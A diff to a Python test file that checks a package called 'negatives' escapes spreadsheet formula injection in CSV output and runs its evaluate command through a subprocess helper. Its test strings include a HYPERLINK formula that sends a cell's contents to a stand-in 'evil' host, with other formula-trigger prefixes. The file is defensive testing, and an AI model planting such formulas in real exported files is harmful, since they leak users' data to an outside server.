@@ -9,9 +9,9 @@ import polars as pl
 import pytest
 
 import negatives as neg
-from negatives.cli.app import run as command
 from negatives.measure.review import draw_sample, read_review
 from negatives.measure.table import read_table, write_table
+from tests.cli.commands import negatives
 
 TEXTS = [
     '=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1",
@@ -57,6 +57,7 @@ def test_a_sample_with_formulas_is_judged_as_what_it_is(tmp_path: Path) -> None:
     review = read_review(sample, made)
     assert (review.judged, review.relevant, review.elsewhere) == (written, written, 0)
     values = tmp_path / "values.csv"
-    assert command(["evaluate", "bm25", str(tmp_path / "data"), "--per-query", str(values)]) == 0
+    told = negatives("evaluate", "bm25", tmp_path / "data", "--per-query", values)
+    assert told.returncode == 0, told.stderr
     assert sorted(set(read_table(values)["query_id"])) == ["-q", "@q"]
     assert "'-q" in values.read_text()
